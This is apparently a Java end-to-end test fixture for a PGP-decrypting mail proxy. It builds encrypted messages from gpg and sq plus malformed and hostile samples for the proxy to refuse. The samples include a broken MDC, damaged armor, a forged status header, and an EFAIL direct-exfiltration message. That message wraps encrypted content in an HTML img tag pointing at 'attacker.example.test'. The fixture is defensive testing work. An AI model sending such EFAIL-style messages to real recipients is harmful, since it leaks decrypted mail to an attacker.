package org.mailproxy.e2e;

import org.mailproxy.core.crypto.openpgp.Decryptor;
import org.mailproxy.core.crypto.openpgp.DetachedVerifier;
import org.mailproxy.core.crypto.openpgp.KeyException;
import org.mailproxy.core.crypto.openpgp.Keyring;
import org.mailproxy.core.crypto.openpgp.OpenPgpLimits;
import org.mailproxy.core.crypto.openpgp.PassphraseSource;
import org.mailproxy.core.crypto.openpgp.UnlockedKey;
import org.mailproxy.core.mime.DecryptedMessage;
import org.mailproxy.core.mime.PgpMimeDecryptor;
import org.mailproxy.testing.MailUser;
import org.mailproxy.testing.UpstreamStack;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mailproxy.e2e.PgpWorld.ALICE;
import static org.mailproxy.e2e.PgpWorld.BOB;
import static org.mailproxy.e2e.PgpWorld.CAROL;

/**
 * Alice's encrypted mailbox as other people's software makes it: PGP/MIME (RFC 3156 §4) from gpg and from Sequoia's
 * {@code sq}, inline PGP, signed and encrypted, Thunderbird-style protected headers (outer Subject {@code ...}, the
 * real one inside, {@code protected-headers="v1"}) with an attachment, optionally one very large message; and the
 * mail the decrypted view must refuse: encrypted to someone else only, a broken MDC, an encrypted part between
 * attacker parts (EFAIL direct exfiltration), a damaged armor; and plain mail, one of it forging our status field.
 *
 * <p>Every message carries a canary of its own in its plaintext, so a test can tell whether plaintext reached a client
 * or a log. {@link #expectedView} says, per message, the exact octets the view must show: a decryptable message as
 * {@link PgpMimeDecryptor} turns it into a decrypted one, anything undecryptable as stored with the fixed notice on
 * top, plain mail as stored; incoming {@value PgpMimeDecryptor#STATUS_HEADER} fields are never shown.
 * The senders' tools are the judges of the payload: {@link #gpgPlaintext} is what alice's own gpg makes of it.
 */
final class EncryptedCorpus {

    /** What the view must make of a message. */
    enum Expect { DECRYPTED, NOT_DECRYPTED, PLAIN }

    /** The first header line of a message the view cannot decrypt. */
    static final String NOTICE = PgpMimeDecryptor.STATUS_HEADER + ": not-decrypted\r\n";

    /**
     * One message of the corpus.
     *
     * @param name        short stable name (tests and benchmarks pick messages by it)
     * @param expect      what the view must show
     * @param raw         the octets stored at the provider
     * @param messageId   the Message-ID (with angle brackets); outside and, for protected headers, inside
     * @param canary      a unique word in the plaintext, never in the clear in {@code raw} of encrypted mail
     * @param subject     the Subject a client must see (the protected one where there is one)
     * @param signature   the signature verdict the status field must carry ({@code none}, {@code valid}, ...)
     * @param signer      the signer fingerprint the status field names, or null
     * @param attachment  the decoded octets of the attachment inside, or null
     * @param inline      whether the encrypted payload is an inline-PGP body (the view re-encodes it as base64)
     */
    record Item(String name, Expect expect, byte[] raw, String messageId, String canary, String subject,
                String signature, String signer, byte[] attachment, boolean inline) {

        String text() {
            return new String(raw, StandardCharsets.UTF_8);
        }

        @Override
        public String toString() {
            return name + " (" + expect + ", " + raw.length + " octets)";
        }
    }

    private static final Pattern STATUS_FIELD = Pattern.compile(
            "(?im)^" + Pattern.quote(PgpMimeDecryptor.STATUS_HEADER) + "[ \t]*:[^\r\n]*\r?\n(?:[ \t][^\r\n]*\r?\n)*");

    private final PgpWorld world;
    private final Path work;
    private final Map<String, Item> items = new LinkedHashMap<>();
    private final String run = UUID.randomUUID().toString().substring(0, 8);
    private final Map<String, byte[]> gpgPlaintexts = new java.util.concurrent.ConcurrentHashMap<>();

    private EncryptedCorpus(PgpWorld world, Path work) {
        this.world = world;
        this.work = work;
    }

    /**
     * The corpus for alice. {@code world} must know bob (the usual sender, whose certificate alice's keyring holds)
     * and carol (the other recipient); {@code largeOctets} above zero adds message {@code large} with a random
     * attachment of that many octets (its armored form is about 1.8 times as large).
     */
    static EncryptedCorpus build(PgpWorld world, Path work, int largeOctets) throws IOException {
        assertThat(world.homes).as("the corpus needs bob's and carol's gpg homes").containsKeys(BOB, CAROL);
        Files.createDirectories(work);
        // alice's gpg checks bob's signatures as her keyring in the proxy does
        world.aliceGpg.importKeys(world.homes.get(BOB).exportPublic(BOB), "");
        EncryptedCorpus c = new EncryptedCorpus(world, work);
        c.plain();
        c.gpgPgpMime();
        c.sqPgpMime();
        c.inlinePgp();
        c.signedAndEncrypted();
        c.protectedHeadersWithAttachment("protected-headers", 60_000, true);
        if (largeOctets > 0) {
            c.protectedHeadersWithAttachment("large", largeOctets, false);
        }
        c.notForUs();
        c.brokenMdc();
        c.efail();
        c.damagedArmor();
        c.forgedStatus();
        return c;
    }

    List<Item> items() {
        return List.copyOf(items.values());
    }

    List<Item> items(Expect expect) {
        return items.values().stream().filter(i -> i.expect() == expect).toList();
    }

    Item get(String name) {
        Item i = items.get(name);
        assertThat(i).as("corpus message %s", name).isNotNull();
        return i;
    }

    /** The message whose Message-ID is in this header section or message, or null. */
    Item byMessageId(String headerOrMessage) {
        String id = PgpWorld.field(headerOrMessage.replace("\r\n", "\n").replace("\n", "\r\n"), "Message-ID");
        return id == null ? null : items.values().stream().filter(i -> i.messageId().equals(id)).findFirst()
                .orElse(null);
    }

    // ---------------------------------------------------------------- the messages

    private String canary(String name) {
        return "canary-" + name + "-" + UUID.randomUUID();
    }

    private String id(String name) {
        return "<" + name + "-" + run + "-" + UUID.randomUUID() + "@example.test>";
    }

    private static String head(String from, String subject, String messageId) {
        return "From: " + from + "\r\n"
                + "To: Alice <" + ALICE + ">\r\n"
                + "Subject: " + subject + "\r\n"
                + "Message-ID: " + messageId + "\r\n"
                + "Date: Tue, 03 Mar 2026 09:00:00 +0000\r\n"
                + "MIME-Version: 1.0\r\n";
    }

    private static String bob() {
        return "Bob Example <" + BOB + ">";
    }

    /** A UTF-8 text/plain entity (header and body) with the canary. */
    private static String textEntity(String canary) {
        return "Content-Type: text/plain; charset=utf-8\r\n"
                + "Content-Transfer-Encoding: 8bit\r\n"
                + "\r\n"
                + textBody(canary);
    }

    private static String textBody(String canary) {
        return "Hello Alice,\r\n"
                + "the numbers are " + canary + ".\r\n"
                + ".a line that starts with a dot\r\n"
                + "Grüße, ½ € ✓ 日本語\r\n";
    }

    /** RFC 3156 §4: the version part, then the armored OpenPGP message. */
    private static String pgpMime(String boundary, byte[] armored) {
        return "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\""
                + boundary + "\"\r\n"
                + "\r\n"
                + "This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\r\n"
                + "--" + boundary + "\r\n"
                + "Content-Type: application/pgp-encrypted\r\n"
                + "Content-Description: PGP/MIME version identification\r\n"
                + "\r\n"
                + "Version: 1\r\n"
                + "\r\n"
                + "--" + boundary + "\r\n"
                + "Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n"
                + "Content-Description: OpenPGP encrypted message\r\n"
                + "Content-Disposition: inline; filename=\"encrypted.asc\"\r\n"
                + "\r\n"
                + crlf(armored)
                + "\r\n--" + boundary + "--\r\n";
    }

    private void add(String name, Expect expect, String raw, String messageId, String canary, String subject,
                     String signature, String signer, byte[] attachment, boolean inline) {
        add(new Item(name, expect, raw.getBytes(StandardCharsets.UTF_8), messageId, canary, subject, signature,
                signer, attachment, inline));
    }

    private void add(Item item) {
        assertThat(items.put(item.name(), item)).as("corpus names are unique").isNull();
    }

    private void plain() {
        String canary = canary("plain");
        String id = id("plain");
        String subject = "Plain lunch plans " + run;
        add("plain", Expect.PLAIN, head(bob(), subject, id) + textEntity(canary), id, canary, subject, null, null,
                null, false);
    }

    private void gpgPgpMime() {
        String canary = canary("gpg");
        String id = id("gpg");
        String subject = "PGP/MIME from gpg " + run;
        byte[] armored = gpgEncrypt(BOB, utf8(textEntity(canary)), false, false, ALICE);
        add("gpg-pgp-mime", Expect.DECRYPTED, head(bob(), subject, id) + pgpMime("enc-gpg-" + run, armored), id,
                canary, subject, "none", null, null, false);
    }

    private void sqPgpMime() throws IOException {
        String canary = canary("sq");
        String id = id("sq");
        String subject = "PGP/MIME from sq " + run;
        Path cert = work.resolve("alice-cert.asc");
        Files.write(cert, world.aliceGpg.run(null, "--armor", "--export", ALICE).stdout());
        byte[] armored = sq(utf8(textEntity(canary)), "encrypt", "--recipient-cert", cert.toString());
        add("sq-pgp-mime", Expect.DECRYPTED, head(bob(), subject, id) + pgpMime("enc-sq-" + run, armored), id,
                canary, subject, "none", null, null, false);
    }

    private void inlinePgp() {
        String canary = canary("inline");
        String id = id("inline");
        String subject = "Inline PGP " + run;
        byte[] armored = gpgEncrypt(BOB, utf8(textBody(canary)), false, false, ALICE);
        add("inline-pgp", Expect.DECRYPTED, head(bob(), subject, id)
                        + "Content-Type: text/plain; charset=utf-8\r\n"
                        + "Content-Transfer-Encoding: 7bit\r\n"
                        + "\r\n" + crlf(armored),
                id, canary, subject, "none", null, null, true);
    }

    private void signedAndEncrypted() {
        String canary = canary("signed");
        String id = id("signed");
        String subject = "Signed and encrypted " + run;
        byte[] armored = gpgEncrypt(BOB, utf8(textEntity(canary)), true, false, ALICE);
        add("signed-encrypted", Expect.DECRYPTED, head(bob(), subject, id) + pgpMime("enc-sig-" + run, armored),
                id, canary, subject, "valid", world.fingerprint(BOB), null, false);
    }

    /**
     * What Thunderbird sends: outer Subject {@code ...}; inside, a multipart/mixed marked
     * {@code protected-headers="v1"} carrying the real header fields, a text part and an attachment.
     */
    private void protectedHeadersWithAttachment(String name, int attachmentOctets, boolean sign) {
        String canary = canary(name);
        String id = id(name);
        String subject = "Quarterly report, the real subject " + canary.substring(canary.length() - 8);
        byte[] attachment = new byte[attachmentOctets];
        new Random(name.hashCode()).nextBytes(attachment);
        String boundary = "mixed-" + name + "-" + run;
        ByteArrayOutputStream inner = new ByteArrayOutputStream(attachmentOctets * 4 / 3 + 4096);
        inner.writeBytes(utf8("Content-Type: multipart/mixed; boundary=\"" + boundary
                + "\"; protected-headers=\"v1\"\r\n"
                + "From: " + bob() + "\r\n"
                + "To: Alice <" + ALICE + ">\r\n"
                + "Message-ID: " + id + "\r\n"
                + "Subject: " + subject + "\r\n"
                + "\r\n"
                + "This is a multi-part message in MIME format.\r\n"
                + "--" + boundary + "\r\n"
                + textEntity(canary)
                + "\r\n--" + boundary + "\r\n"
                + "Content-Type: application/pdf; name=\"report.pdf\"\r\n"
                + "Content-Disposition: attachment; filename=\"report.pdf\"\r\n"
                + "Content-Transfer-Encoding: base64\r\n"
                + "\r\n"));
        inner.writeBytes(utf8(Base64.getMimeEncoder(72, new byte[]{'\r', '\n'}).encodeToString(attachment)));
        inner.writeBytes(utf8("\r\n\r\n--" + boundary + "--\r\n"));
        byte[] armored = gpgEncrypt(BOB, inner.toByteArray(), sign, attachmentOctets > 1_000_000, ALICE);
        add(name, Expect.DECRYPTED, head(bob(), "...", id) + pgpMime("enc-" + name + "-" + run, armored), id,
                canary, subject, sign ? "valid" : "none", sign ? world.fingerprint(BOB) : null, attachment, false);
    }

    private void notForUs() {
        String canary = canary("other");
        String id = id("other");
        byte[] armored = world.homes.get(CAROL).ok(utf8(textEntity(canary)), "--armor", "--encrypt",
                "--recipient", CAROL).stdout();
        add("not-for-us", Expect.NOT_DECRYPTED, head("Carol <" + CAROL + ">", "For carol only " + run, id)
                + pgpMime("enc-other-" + run, armored), id, canary, "For carol only " + run, null, null, null, false);
    }

    /** A ciphertext whose last octet (the end of the MDC packet, RFC 4880 §5.14) is flipped; the armor stays valid. */
    private void brokenMdc() {
        String canary = canary("mdc");
        String id = id("mdc");
        byte[] armored = gpgEncrypt(BOB, utf8(textEntity(canary)), false, true, ALICE);
        byte[] binary = dearmor(armored);
        binary[binary.length - 1] ^= 0x01;
        add("broken-mdc", Expect.NOT_DECRYPTED, head(bob(), "Broken MDC " + run, id)
                        + pgpMime("enc-mdc-" + run, armor(binary)), id, canary, "Broken MDC " + run, null, null,
                null, false);
    }

    /**
     * EFAIL direct exfiltration (SECURITY.md 4): a multipart/mixed whose middle part is a PGP/MIME message alice can
     * decrypt, between two attacker parts that would wrap its plaintext into a URL.
     */
    private void efail() {
        String canary = canary("efail");
        String id = id("efail");
        String boundary = "efail-" + run;
        byte[] armored = gpgEncrypt(BOB, utf8(textEntity(canary)), false, false, ALICE);
        add("efail", Expect.NOT_DECRYPTED, head(bob(), "Invoice " + run, id)
                        + "Content-Type: multipart/mixed; boundary=\"" + boundary + "\"\r\n"
                        + "\r\n"
                        + "--" + boundary + "\r\n"
                        + "Content-Type: text/html\r\n"
                        + "\r\n"
                        + "<img src=\"http://attacker.example.test/\r\n"
                        + "--" + boundary + "\r\n"
                        + pgpMime("enc-efail-" + run, armored)
                        + "--" + boundary + "\r\n"
                        + "Content-Type: text/html\r\n"
                        + "\r\n"
                        + "\">\r\n"
                        + "--" + boundary + "--\r\n",
                id, canary, "Invoice " + run, null, null, null, false);
    }

    /** A PGP/MIME message whose armor was cut in the middle (no END line, half the ciphertext). */
    private void damagedArmor() {
        String canary = canary("damaged");
        String id = id("damaged");
        String armored = new String(gpgEncrypt(BOB, utf8(textEntity(canary)), false, false, ALICE),
                StandardCharsets.US_ASCII);
        String[] lines = armored.split("\n");
        String cut = String.join("\n", List.of(lines).subList(0, lines.length / 2)) + "\n";
        add("damaged", Expect.NOT_DECRYPTED, head(bob(), "Damaged " + run, id)
                        + pgpMime("enc-dmg-" + run, cut.getBytes(StandardCharsets.US_ASCII)), id, canary,
                "Damaged " + run, null, null, null, false);
    }

    /** A plain message claiming what only the proxy may say (SECURITY.md 8). */
    private void forgedStatus() {
        String canary = canary("forged");
        String id = id("forged");
        String subject = "Trust me " + run;
        String raw = head(bob(), subject, id).replace("MIME-Version: 1.0\r\n",
                PgpMimeDecryptor.STATUS_HEADER + ": decrypted; signature=valid\r\nMIME-Version: 1.0\r\n")
                + textEntity(canary);
        add("forged-status", Expect.PLAIN, raw, id, canary, subject, null, null, null, false);
    }

    // ---------------------------------------------------------------- what the view must show

    /** An oracle for {@link #expectedView}: alice's key unlocked from the proxy's own keyring. */
    static final class Oracle implements AutoCloseable {
        private final PgpMimeDecryptor decryptor;
        private final UnlockedKey key;

        Oracle(PgpWorld world, Path spoolDir) throws IOException, KeyException {
            Keyring keyring = Keyring.open(world.dataDir.resolve("keys"));
            key = keyring.unlock(ALICE, PassphraseSource.ofChars(PgpWorld.PASSPHRASE.toCharArray()));
            Files.createDirectories(spoolDir);
            decryptor = new PgpMimeDecryptor(new Decryptor(keyring, List.of(key), OpenPgpLimits.DEFAULTS, spoolDir),
                    new DetachedVerifier(keyring), OpenPgpLimits.DEFAULTS, spoolDir);
        }

        /** What {@link PgpMimeDecryptor} makes of the stored octets. */
        DecryptedMessage decrypt(byte[] raw) throws IOException {
            try {
                return decryptor.decrypt(new ByteArrayInputStream(raw));
            } catch (org.mailproxy.core.crypto.openpgp.DecryptionFailedException e) {
                return null;
            }
        }

        @Override
        public void close() {
            key.close();
        }
    }

    /** The octets the view must show for {@code item}. */
    static byte[] expectedView(Item item, Oracle oracle) throws IOException {
        return switch (item.expect()) {
            case PLAIN -> withoutStatusFields(item.raw());
            case NOT_DECRYPTED -> concat(utf8(NOTICE), withoutStatusFields(item.raw()));
            case DECRYPTED -> {
                try (DecryptedMessage d = oracle.decrypt(item.raw())) {
                    assertThat(d).as("%s decrypts", item).isNotNull();
                    assertThat(d.kind()).as("%s", item).isEqualTo(DecryptedMessage.Kind.DECRYPTED);
                    yield d.message().orElseThrow().toByteArray();
                }
            }
        };
    }

    /** Expected views of every message, by name. */
    Map<String, byte[]> expectedViews(Oracle oracle) throws IOException {
        Map<String, byte[]> views = new LinkedHashMap<>();
        for (Item i : items.values()) {
            views.put(i.name(), expectedView(i, oracle));
        }
        return views;
    }

    /** The message without any {@value PgpMimeDecryptor#STATUS_HEADER} field in its header section. */
    static byte[] withoutStatusFields(byte[] message) {
        String text = new String(message, StandardCharsets.ISO_8859_1);
        int end = text.indexOf("\r\n\r\n");
        String head = end < 0 ? text : text.substring(0, end + 2);
        String rest = end < 0 ? "" : text.substring(end + 2);
        return (STATUS_FIELD.matcher(head).replaceAll("") + rest).getBytes(StandardCharsets.ISO_8859_1);
    }

    /**
     * What alice's own gpg makes of the (first) armored OpenPGP message in {@code raw}: for PGP/MIME the inner
     * entity, for inline PGP the text.
     */
    byte[] gpgPlaintext(Item item) {
        return gpgPlaintexts.computeIfAbsent(item.name(), n -> decryptWithGpg(item)).clone();
    }

    private byte[] decryptWithGpg(Item item) {
        String text = item.text();
        int begin = text.indexOf("-----BEGIN PGP MESSAGE-----");
        String endLine = "-----END PGP MESSAGE-----";
        int end = text.indexOf(endLine, begin);
        assertThat(begin).as("armor in %s", item).isNotNegative();
        assertThat(end).as("armor end in %s", item).isPositive();
        Gpg.Result r = world.aliceGpg.decrypt(utf8(text.substring(begin, end + endLine.length()) + "\r\n"),
                PgpWorld.PASSPHRASE);
        assertThat(r.exit()).as("alice's gpg decrypts %s: %s", item, r.describe()).isZero();
        assertThat(r.status()).as(r.describe()).contains("DECRYPTION_OKAY").contains("GOODMDC");
        if ("valid".equals(item.signature())) {
            assertThat(r.status()).as("gpg finds %s's good signature: %s", item.signer(), r.describe())
                    .anyMatch(l -> l.startsWith("VALIDSIG ") && l.toUpperCase(Locale.ROOT).endsWith(" " + item.signer()));
        }
        return r.stdout();
    }

    // ---------------------------------------------------------------- seeding

    /**
     * Creates {@code folder} for {@code user} and APPENDs the messages straight to the provider (IMAPS, so the
     * stored octets are exactly the literal's, RFC 9051 §6.3.12); returns their UIDs (UIDPLUS, RFC 4315) by name.
     */
    static Map<String, Long> seed(UpstreamStack stack, MailUser user, String folder, List<Item> messages)
            throws IOException {
        Map<String, Long> uids = new LinkedHashMap<>();
        Socket socket = stack.clientSocketFactory().createSocket(stack.host(), stack.imapsPort());
        try (RawImap c = new RawImap(socket)) {
            assertThat(c.readLine()).startsWith("* OK");
            assertThat(RawImap.last(c.command("s1", "LOGIN " + RawImap.quoted(user.login()) + " "
                    + RawImap.quoted(user.password())))).startsWith("s1 OK");
            assertThat(RawImap.last(c.command("s2", "CREATE " + RawImap.quoted(folder)))).startsWith("s2 OK");
            Pattern appendUid = Pattern.compile("\\[APPENDUID \\d+ (\\d+)]");
            int n = 0;
            for (Item m : messages) {
                String tag = "a" + (++n);
                c.send(tag + " APPEND " + RawImap.quoted(folder) + " (\\Seen) {" + m.raw().length + "}\r\n");
                assertThat(c.readLine()).as("continuation for %s", m).startsWith("+");
                c.send(m.raw());
                c.send("\r\n");
                String ok = RawImap.last(c.readUntilTagged(tag));
                assertThat(ok).as("APPEND of %s", m).startsWith(tag + " OK");
                Matcher u = appendUid.matcher(ok);
                assertThat(u.find()).as("APPENDUID in %s", ok).isTrue();
                uids.put(m.name(), Long.parseLong(u.group(1)));
            }
            c.command("s3", "LOGOUT");
        }
        return uids;
    }

    /** Deletes a folder {@link #seed} made, with everything in it. */
    static void deleteFolder(UpstreamStack stack, MailUser user, String folder) throws IOException {
        Socket socket = stack.clientSocketFactory().createSocket(stack.host(), stack.imapsPort());
        try (RawImap c = new RawImap(socket)) {
            assertThat(c.readLine()).startsWith("* OK");
            assertThat(RawImap.last(c.command("d1", "LOGIN " + RawImap.quoted(user.login()) + " "
                    + RawImap.quoted(user.password())))).startsWith("d1 OK");
            assertThat(RawImap.last(c.command("d2", "DELETE " + RawImap.quoted(folder)))).startsWith("d2 OK");
            c.command("d3", "LOGOUT");
        }
    }

    // ---------------------------------------------------------------- for benchmarks and by hand

    /**
     * Writes a corpus to a directory for tools outside JUnit (benchmarks, manual runs):
     * {@code data/} (a data directory whose keyring holds alice's key), {@code alice.pass} (its passphrase file),
     * {@code messages/NN-name.eml} (what to store at the provider), {@code expected/NN-name.eml} (what the view must
     * show) and {@code manifest.tsv} (number, name, expectation, Message-ID, Subject a client must see, canary).
     *
     * <p>Arguments: the directory (must not hold a corpus yet) and optionally the large message's attachment
     * octets (0, the default, leaves it out). Run from the repository root after {@code mvn -pl e2e-tests
     * test-compile dependency:build-classpath -Dmdep.outputFile=cp.txt -Dmdep.includeScope=test}:
     * {@code java -cp e2e-tests/target/test-classes:$(cat e2e-tests/cp.txt) org.mailproxy.e2e.EncryptedCorpus DIR}.
     * Needs gpg (and sq) like the tests.
     */
    public static void main(String[] args) throws Exception {
        if (args.length < 1 || args.length > 2) {
            System.err.println("usage: EncryptedCorpus DIR [LARGE_ATTACHMENT_OCTETS]");
            System.exit(2);
        }
        Path out = Path.of(args[0]);
        int large = args.length == 2 ? Integer.parseInt(args[1]) : 0;
        Files.createDirectories(out);
        try (PgpWorld world = new PgpWorld(out, BOB, CAROL)) {
            EncryptedCorpus corpus = build(world, out.resolve("work"), large);
            Path messages = Files.createDirectories(out.resolve("messages"));
            Path expected = Files.createDirectories(out.resolve("expected"));
            StringBuilder manifest = new StringBuilder("n\tname\texpect\tmessage-id\tsubject\tcanary\n");
            try (Oracle oracle = new Oracle(world, out.resolve("work").resolve("spool"))) {
                int n = 0;
                for (Item i : corpus.items()) {
                    String file = String.format(Locale.ROOT, "%02d-%s.eml", ++n, i.name());
                    Files.write(messages.resolve(file), i.raw());
                    Files.write(expected.resolve(file), expectedView(i, oracle));
                    manifest.append(n).append('\t').append(i.name()).append('\t').append(i.expect()).append('\t')
                            .append(i.messageId()).append('\t').append(i.subject()).append('\t').append(i.canary())
                            .append('\n');
                }
            }
            Files.writeString(out.resolve("manifest.tsv"), manifest);
        }
    }

    // ---------------------------------------------------------------- tools

    /** The sender's gpg encrypts (and signs, as herself) to the recipients; armored output. */
    private byte[] gpgEncrypt(String sender, byte[] plaintext, boolean sign, boolean noCompression,
                              String... recipients) {
        List<String> args = new ArrayList<>(List.of("--passphrase", world.passphrase(sender), "--armor"));
        if (noCompression) {
            args.addAll(List.of("--compress-algo", "none"));
        }
        if (sign) {
            args.addAll(List.of("--local-user", world.fingerprint(sender), "--sign"));
        }
        args.add("--encrypt");
        for (String r : recipients) {
            args.addAll(List.of("--recipient", world.fingerprint(r)));
        }
        return world.gpg(sender).ok(plaintext, args.toArray(String[]::new)).stdout();
    }

    /** Sequoia's {@code sq} in a private home; aborts the caller where sq is not installed. */
    private byte[] sq(byte[] stdin, String... args) throws IOException {
        Tool.require("sq");
        Path home = Files.createTempDirectory(work, "sq");
        List<String> cmd = new ArrayList<>(List.of("sq"));
        cmd.addAll(List.of(args));
        Path in = home.resolve("in");
        Path out = home.resolve("out");
        Path err = home.resolve("err");
        Files.write(in, stdin);
        ProcessBuilder pb = new ProcessBuilder(cmd).redirectInput(in.toFile()).redirectOutput(out.toFile())
                .redirectError(err.toFile());
        pb.environment().put("HOME", home.toString());
        try {
            Process p = pb.start();
            if (!p.waitFor(60, TimeUnit.SECONDS)) {
                p.destroyForcibly();
                throw new AssertionError("sq did not finish");
            }
            assertThat(p.exitValue()).as("sq %s: %s", cmd, Files.readString(err)).isZero();
            return Files.readAllBytes(out);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError("interrupted while sq ran", e);
        }
    }

    /** The binary OpenPGP message inside ASCII armor (RFC 9580 §6.2); the CRC line is dropped. */
    static byte[] dearmor(byte[] armored) {
        String[] lines = new String(armored, StandardCharsets.US_ASCII).split("\r?\n");
        StringBuilder b64 = new StringBuilder();
        int i = 0;
        while (!lines[i].startsWith("-----BEGIN PGP MESSAGE-----")) {
            i++;
        }
        i++;
        while (!lines[i].isEmpty()) {
            i++; // armor headers
        }
        for (i++; i < lines.length && !lines[i].startsWith("-----END") && !lines[i].startsWith("="); i++) {
            b64.append(lines[i].trim());
        }
        return Base64.getDecoder().decode(b64.toString());
    }

    /** ASCII armor with a correct CRC24, so only the ciphertext is broken, not its transport. */
    static byte[] armor(byte[] binary) {
        int crc = 0xB704CE;
        for (byte b : binary) {
            crc ^= (b & 0xff) << 16;
            for (int k = 0; k < 8; k++) {
                crc <<= 1;
                if ((crc & 0x1000000) != 0) {
                    crc ^= 0x1864CFB;
                }
            }
        }
        crc &= 0xFFFFFF;
        byte[] crcBytes = {(byte) (crc >> 16), (byte) (crc >> 8), (byte) crc};
        return utf8("-----BEGIN PGP MESSAGE-----\r\n\r\n"
                + Base64.getMimeEncoder(64, new byte[]{'\r', '\n'}).encodeToString(binary) + "\r\n"
                + "=" + Base64.getEncoder().encodeToString(crcBytes) + "\r\n"
                + "-----END PGP MESSAGE-----\r\n");
    }

    /** Tool output with LF line ends as the CRLF a message carries; ends with CRLF. */
    private static String crlf(byte[] text) {
        String s = new String(text, StandardCharsets.US_ASCII).replace("\r\n", "\n").replace("\n", "\r\n");
        return s.endsWith("\r\n") ? s : s + "\r\n";
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] out = new byte[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    /** The header section of a message including the blank line, or the whole message if it has none. */
    static byte[] headerOf(byte[] message) {
        int end = PgpWorld.indexOf(message, utf8("\r\n\r\n"), 0);
        return end < 0 ? message : java.util.Arrays.copyOf(message, end + 4);
    }

    /** The body of a message after the blank line. */
    static byte[] bodyOf(byte[] message) {
        int end = PgpWorld.indexOf(message, utf8("\r\n\r\n"), 0);
        assertThat(end).as("a header section").isNotNegative();
        return java.util.Arrays.copyOfRange(message, end + 4, message.length);
    }

    /** The decoded base64 body of a single-part message (the view re-encodes inline PGP plaintext). */
    static byte[] base64Body(byte[] message) {
        String head = new String(headerOf(message), StandardCharsets.UTF_8);
        assertThat(PgpWorld.field(head, "Content-Transfer-Encoding")).as("inline plaintext encoding")
                .isEqualToIgnoringCase("base64");
        return Base64.getMimeDecoder().decode(bodyOf(message));
    }
}
